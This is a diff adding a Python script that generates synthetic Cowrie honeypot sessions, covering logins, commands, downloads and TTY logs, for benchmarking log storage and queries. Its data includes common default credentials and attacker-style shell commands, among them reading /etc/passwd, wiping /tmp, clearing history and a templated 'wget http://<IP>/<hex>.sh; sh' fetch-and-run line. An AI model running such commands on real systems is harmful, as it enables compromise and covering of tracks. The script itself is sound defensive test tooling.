@@ -0,0 +1,339 @@
+"""Generate synthetic Cowrie sessions for load and query benchmarks."""
+# Copyright (C) 2016 Russell Troxel
+
+# This program is free software: you can redistribute it and/or modify
+# it under the terms of the GNU General Public License as published by
+# the Free Software Foundation, either version 3 of the License, or
+# (at your option) any later version.
+
+# This program is distributed in the hope that it will be useful,
+# but WITHOUT ANY WARRANTY; without even the implied warranty of
+# MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+# GNU General Public License for more details.
+
+# You should have received a copy of the GNU General Public License
+# along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+import argparse
+import base64
+import bisect
+import gzip
+import hashlib
+import json
+import math
+import multiprocessing
+import os
+import random
+import struct
+import sys
+import time
+import uuid
+
+from datetime import datetime, timedelta
+
+BENCH_DIR = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.dirname(BENCH_DIR))
+
+
+USERNAMES = ["root", "admin", "user", "test", "ubuntu", "pi", "oracle",
+             "support", "guest", "ftpuser", "postgres", "git", "ubnt"]
+PASSWORDS = ["123456", "admin", "password", "root", "12345", "1234",
+             "123456789", "default", "raspberry", "ubnt", "qwerty",
+             "toor", "changeme", "test", "12345678", "111111"]
+COMMANDS = [
+    "uname -a",
+    "cat /proc/cpuinfo",
+    "free -m",
+    "w",
+    "ls -la",
+    "cd /tmp",
+    "cat /etc/passwd",
+    "ps aux",
+    "echo -e '\\x47\\x72\\x6f\\x70'",
+    "nproc",
+    "crontab -l",
+    "chmod +x .s; ./.s",
+    "cat /proc/mounts; /bin/busybox ECCHI",
+    "rm -rf /tmp/* /var/tmp/*",
+    "history -c",
+]
+DOWNLOAD_HOSTS = ["185.{0}.{1}.{2}", "45.{0}.{1}.{2}", "103.{0}.{1}.{2}"]
+SSH_VERSIONS = ["SSH-2.0-libssh-0.6.3", "SSH-2.0-Go", "SSH-2.0-PUTTY",
+                "SSH-2.0-OpenSSH_7.4", "SSH-2.0-paramiko_1.16.0"]
+KEX_ALGS = ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256",
+            "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"]
+KEY_ALGS = ["ssh-rsa", "ssh-dss", "ecdsa-sha2-nistp256", "ssh-ed25519"]
+MAC_ALGS = ["hmac-sha1", "hmac-sha2-256", "hmac-md5", "umac-64@openssh.com"]
+
+TIMESTAMP_FORMAT = "%Y-%m-%dT%H:%M:%S.%fZ"
+
+# cowrie ttylog record: op, tty, length, direction, sec, usec
+TTYLOG_RECORD = struct.Struct("<iLiiLL")
+TTYLOG_OP_WRITE = 3
+TTYLOG_TYPE_INPUT = 1
+TTYLOG_TYPE_OUTPUT = 2
+
+# Terminal output is sliced out of one block of noise rather than drawn
+# from os.urandom for every record.
+TTYLOG_FILLER = os.urandom(1 << 15).encode("hex")
+
+
+class Zipf(object):
+    """Draw ranks 0..n-1 with probability proportional to 1 / (rank+1)^s."""
+
+    def __init__(self, n, s, rng):
+        """init."""
+        total = 0.0
+        self.cumulative = []
+        for rank in range(1, n + 1):
+            total += 1.0 / rank ** s
+            self.cumulative.append(total)
+        self.total = total
+        self.rng = rng
+
+    def draw(self):
+        """Return a rank."""
+        return bisect.bisect_left(self.cumulative,
+                                  self.rng.random() * self.total)
+
+
+class Vocabulary(object):
+    """A ranked list of values: well-known heads, then a synthetic tail."""
+
+    def __init__(self, head, size, make_tail, s, rng):
+        """init."""
+        self.values = list(head)
+        while len(self.values) < size:
+            self.values.append(make_tail(len(self.values)))
+        self.zipf = Zipf(len(self.values), s, rng)
+
+    def draw(self):
+        """Return a value."""
+        return self.values[self.zipf.draw()]
+
+
+def random_ip(rng):
+    """Return a random unicast IPv4 address."""
+    return "{0}.{1}.{2}.{3}".format(rng.randint(1, 223), rng.randint(0, 255),
+                                    rng.randint(0, 255), rng.randint(1, 254))
+
+
+def make_ttylog(rng, commands, start, mean_bytes):
+    """Build a cowrie ttylog whose size follows a log-normal distribution."""
+    target = int(rng.lognormvariate(math.log(max(mean_bytes, 1)), 1.0))
+    chunks = []
+    size = 0
+    sec = int(start)
+    for command in commands:
+        for direction, data in ((TTYLOG_TYPE_INPUT, command + "\n"),
+                                (TTYLOG_TYPE_OUTPUT, None)):
+            if data is None:
+                length = min(max(target - size, 16), 4096)
+                offset = rng.randint(0, len(TTYLOG_FILLER) - length)
+                data = TTYLOG_FILLER[offset:offset + length]
+            sec += rng.randint(0, 3)
+            chunks.append(TTYLOG_RECORD.pack(
+                TTYLOG_OP_WRITE, 1, len(data), direction, sec,
+                rng.randint(0, 999999)))
+            chunks.append(data)
+            size += TTYLOG_RECORD.size + len(data)
+    return b"".join(chunks)
+
+
+class Generator(object):
+    """Produce synthetic cowrie sessions as lists of cowrie.json events."""
+
+    def __init__(self, args, seed):
+        """init."""
+        # Every shard shares one sensor list.
+        sensor_rng = random.Random(args.seed)
+        self.sensors = [("sensor-{0:02d}".format(i), random_ip(sensor_rng))
+                        for i in range(args.sensors)]
+        rng = random.Random(seed)
+        self.rng = rng
+        self.args = args
+        self.source_ips = [random_ip(rng) for _ in range(args.source_ips)]
+        if args.ip_distribution == "zipf":
+            self.source_ip_zipf = Zipf(len(self.source_ips), args.zipf_s, rng)
+        else:
+            self.source_ip_zipf = None
+        self.usernames = Vocabulary(
+            USERNAMES, args.credentials, lambda i: "user{0}".format(i),
+            args.zipf_s, rng)
+        self.passwords = Vocabulary(
+            PASSWORDS, args.credentials,
+            lambda i: "pass{0:x}".format(i * 7919), args.zipf_s, rng)
+        self.commands = Vocabulary(
+            COMMANDS, args.commands, self._tail_command, args.zipf_s, rng)
+        self.start = datetime.utcnow() - timedelta(days=args.days)
+        self.span = args.days * 86400.0
+
+    def _tail_command(self, index):
+        host = self.rng.choice(DOWNLOAD_HOSTS).format(
+            self.rng.randint(1, 254), self.rng.randint(0, 255),
+            self.rng.randint(1, 254))
+        return "cd /tmp; wget http://{0}/{1:x}.sh; sh {1:x}.sh".format(
+            host, index * 2654435761 % (1 << 32))
+
+    def _source_ip(self):
+        if self.source_ip_zipf is not None:
+            return self.source_ips[self.source_ip_zipf.draw()]
+        return self.rng.choice(self.source_ips)
+
+    def session(self):
+        """Return the events of one session, in order."""
+        rng = self.rng
+        args = self.args
+        sensor_name, sensor_ip = rng.choice(self.sensors)
+        session = uuid.uuid4().hex[:12]
+        when = self.start + timedelta(seconds=rng.random() * self.span)
+        base = {"session": session, "sensor": sensor_name}
+        events = []
+
+        def add(eventid, **fields):
+            event = dict(base, eventid=eventid,
+                         timestamp=when.strftime(TIMESTAMP_FORMAT))
+            event.update(fields)
+            events.append(event)
+
+        add("cowrie.session.connect", src_ip=self._source_ip(),
+            src_port=rng.randint(1024, 65535), dst_ip=sensor_ip, dst_port=22)
+        if rng.random() < 0.9:
+            add("cowrie.client.version",
+                version=rng.choice(SSH_VERSIONS),
+                kexAlgs=rng.sample(KEX_ALGS, 2),
+                keyAlgs=rng.sample(KEY_ALGS, 2),
+                macCS=rng.sample(MAC_ALGS, 2))
+
+        success = False
+        for _ in range(int(rng.expovariate(1.0 / args.logins)) + 1):
+            when += timedelta(seconds=rng.random() * 2)
+            success = rng.random() < args.success_rate
+            add("cowrie.login.success" if success else "cowrie.login.failed",
+                username=self.usernames.draw(),
+                password=self.passwords.draw())
+            if success:
+                break
+
+        commands = []
+        if success:
+            add("cowrie.client.size", width=rng.choice([80, 120, 200]),
+                height=rng.choice([24, 40, 60]))
+            for _ in range(int(rng.expovariate(1.0 / args.session_commands))):
+                when += timedelta(seconds=rng.random() * 5)
+                command = self.commands.draw()
+                commands.append(command)
+                ok = rng.random() < 0.8
+                add("cowrie.command.success" if ok else
+                    "cowrie.command.failed", input=command)
+                if "wget " in command and rng.random() < 0.5:
+                    url = command.split("wget ")[1].split(";")[0]
+                    add("cowrie.session.file_download", url=url,
+                        outfile="dl/" + hashlib.sha256(url).hexdigest(),
+                        shasum=hashlib.sha256(url).hexdigest())
+            if args.ttylog_mean_bytes > 0 and commands:
+                ttylog = make_ttylog(rng, commands, time.mktime(
+                    when.timetuple()), args.ttylog_mean_bytes)
+                add("cowrie.log.closed", ttylog="log/" + session,
+                    size=len(ttylog), log_base64=base64.b64encode(ttylog))
+
+        when += timedelta(seconds=rng.random() * 10)
+        add("cowrie.session.closed")
+        return events
+
+
+class NdjsonWriter(object):
+    """Write cowrie.json events to a (possibly gzipped) file."""
+
+    def __init__(self, path):
+        """init."""
+        if path.endswith(".gz"):
+            self.handle = gzip.open(path, "wb", compresslevel=3)
+        else:
+            self.handle = open(path, "wb", 1 << 20)
+
+    def write(self, events):
+        """Append one session's events."""
+        self.handle.write("".join(json.dumps(e) + "\n" for e in events))
+
+    def close(self):
+        """Flush and close the file."""
+        self.handle.close()
+
+
+def run_shard(args, shard):
+    """Generate this shard's share of sessions; return its event count."""
+    generator = Generator(args, seed=args.seed * 1000003 + shard)
+    path = args.ndjson
+    if args.processes > 1:
+        root, ext = os.path.splitext(path)
+        if ext == ".gz":
+            root, inner = os.path.splitext(root)
+            ext = inner + ext
+        path = "{0}.part{1}{2}".format(root, shard, ext)
+    writer = NdjsonWriter(path)
+
+    sessions = args.sessions // args.processes
+    if shard < args.sessions % args.processes:
+        sessions += 1
+    events = 0
+    for _ in range(sessions):
+        session_events = generator.session()
+        writer.write(session_events)
+        events += len(session_events)
+    writer.close()
+    return events
+
+
+def _run_shard(job):
+    return run_shard(*job)
+
+
+def main(argv=None):
+    """Generate sessions and report the event rate."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--ndjson", required=True,
+                        help="Write cowrie.json events here (.gz "
+                             "compresses); load them with manage import")
+    parser.add_argument("--sessions", type=int, default=10000)
+    parser.add_argument("--sensors", type=int, default=10)
+    parser.add_argument("--source-ips", type=int, default=50000,
+                        help="Size of the attacker address pool")
+    parser.add_argument("--ip-distribution", choices=["uniform", "zipf"],
+                        default="zipf")
+    parser.add_argument("--credentials", type=int, default=20000,
+                        help="Distinct usernames and passwords")
+    parser.add_argument("--commands", type=int, default=5000,
+                        help="Distinct commands")
+    parser.add_argument("--zipf-s", type=float, default=1.1,
+                        help="Zipf exponent for IPs, credentials, commands")
+    parser.add_argument("--logins", type=float, default=3.0,
+                        help="Mean login attempts per session")
+    parser.add_argument("--success-rate", type=float, default=0.3)
+    parser.add_argument("--session-commands", type=float, default=8.0,
+                        help="Mean commands per authenticated session")
+    parser.add_argument("--ttylog-mean-bytes", type=int, default=4096,
+                        help="Median TTY log size; 0 disables TTY logs")
+    parser.add_argument("--days", type=float, default=30.0,
+                        help="Spread session start times over this window")
+    parser.add_argument("--processes", type=int,
+                        default=multiprocessing.cpu_count())
+    parser.add_argument("--seed", type=int, default=1)
+    args = parser.parse_args(argv)
+
+    start = time.time()
+    jobs = [(args, shard) for shard in range(args.processes)]
+    if args.processes > 1:
+        pool = multiprocessing.Pool(args.processes)
+        events = sum(pool.map(_run_shard, jobs))
+        pool.close()
+        pool.join()
+    else:
+        events = run_shard(args, 0)
+    elapsed = time.time() - start
+    print("{0} sessions, {1} events in {2:.1f}s ({3:.0f} events/s)".format(
+        args.sessions, events, elapsed, events / elapsed if elapsed else 0))
+
+
+if __name__ == "__main__":
+    main()